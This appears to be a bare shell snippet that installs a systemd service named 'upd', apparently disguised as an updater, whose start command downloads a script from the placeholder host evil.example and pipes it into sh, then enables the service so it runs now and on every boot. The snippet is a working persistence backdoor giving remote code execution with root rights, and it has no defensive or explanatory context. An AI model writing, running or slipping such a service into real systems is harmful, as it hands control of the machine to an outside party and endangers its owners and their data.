cat > /etc/systemd/system/upd.service <<EOT
[Service]
ExecStart=/bin/sh -c "curl -s http://evil.example/u | sh"
[Install]
WantedBy=multi-user.target
EOT
systemctl enable --now upd
